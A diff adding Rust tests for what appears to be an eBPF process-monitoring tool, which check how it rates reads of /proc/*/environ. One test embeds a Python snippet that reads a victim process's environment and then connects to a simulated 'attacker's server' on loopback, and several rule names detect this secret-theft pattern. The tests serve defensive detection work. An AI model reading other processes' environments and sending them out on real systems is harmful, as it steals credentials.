@@ -135,3 +135,115 @@ fn a_debugger_reading_its_own_child_is_not_a_finding() {
     assert!(memory.is_empty(), "{memory:#?}");
     assert_replay_matches(&w, tmp.path(), &[]);
 }
+
+/// Findings of high severity or above.
+fn serious(w: &Watched) -> Vec<Value> {
+    w.report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["severity"] == "high" || f["severity"] == "critical")
+        .cloned()
+        .collect()
+}
+
+#[test]
+fn listing_processes_with_ps_and_top_is_not_a_high_finding() {
+    if !require_bpf() {
+        return;
+    }
+    // Something outside the run whose environment ps can read.
+    let _victim = Victim::start();
+    let tmp = TempDir::new("procmem-ps");
+    let w = watch(
+        &tmp,
+        tmp.path(),
+        &[],
+        &[],
+        &[
+            "sh",
+            "-c",
+            "ps aux >/dev/null && ps eww -e >/dev/null && top -b -n1 >/dev/null",
+        ],
+    );
+    let evs = w.events();
+    // ps really read other processes' environments (else this test proves nothing).
+    let environ_reads = evs
+        .iter()
+        .filter(|e| {
+            e["kind"] == "open"
+                && e["open"]["ret"].as_i64().is_some_and(|r| r >= 0)
+                && e["open"]["path"]
+                    .as_str()
+                    .is_some_and(|p| p.starts_with("/proc/") && p.ends_with("/environ"))
+        })
+        .count();
+    assert!(
+        environ_reads >= 2,
+        "ps read no environment: {environ_reads}"
+    );
+    assert_eq!(serious(&w), Vec::<Value>::new());
+    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
+    // Recorded, once per listing process, at low severity.
+    let listing: Vec<_> = w.report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "process-listing-read-environ")
+        .collect();
+    assert!(!listing.is_empty(), "{:#?}", w.report["findings"]);
+    assert!(listing.iter().all(|f| f["severity"] == "low"));
+    assert!(listing.len() <= 2, "one finding per ps: {listing:#?}");
+    assert_replay_matches(&w, tmp.path(), &[]);
+}
+
+#[test]
+fn reading_another_processs_environment_and_then_connecting_is_critical() {
+    if !require_bpf() {
+        return;
+    }
+    let victim = Victim::start();
+    let vpid = victim.0.id();
+    // The "attacker's server", on loopback; the policy does not allow loopback, so the
+    // connection counts as leaving.
+    let listener = std::net::TcpListener::bind("127.0.0.41:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let tmp = TempDir::new("procmem-environ-egress");
+    let policy = tmp.join("policy.yaml");
+    fs::write(&policy, "allow_loopback: false\nfail_on: never\n").unwrap();
+    // Targeted (no listing), and listed first (as a sweep of /proc does): both then connect.
+    for (name, list) in [("targeted", ""), ("sweep", "os.listdir('/proc'); ")] {
+        let script = format!(
+            "import os, socket\n{list}data = open('/proc/{vpid}/environ', 'rb').read()\n\
+             s = socket.create_connection(('127.0.0.41', {port}))\ns.sendall(b'x' if data else b'')\ns.close()\n"
+        );
+        let w = watch(
+            &tmp,
+            tmp.path(),
+            &[],
+            &["--policy", policy.to_str().unwrap()],
+            &["python3", "-c", &script],
+        );
+        assert_eq!(w.out.status.code(), Some(0), "{name}: {}", w.stderr());
+        let f = w.finding("environ-read-then-egress");
+        assert_eq!(f["severity"], "critical", "{name}: {f:#}");
+        assert!(
+            f["message"]
+                .as_str()
+                .is_some_and(|m| m.contains(&format!("127.0.0.41:{port}"))),
+            "{name}: {f:#}"
+        );
+        let rules = w.rules();
+        match name {
+            "targeted" => assert!(
+                rules.contains(&"read-other-process-environ".to_owned()),
+                "{rules:?}"
+            ),
+            _ => assert!(
+                rules.contains(&"process-listing-read-environ".to_owned()),
+                "{rules:?}"
+            ),
+        }
+    }
+    drop(listener);
+}
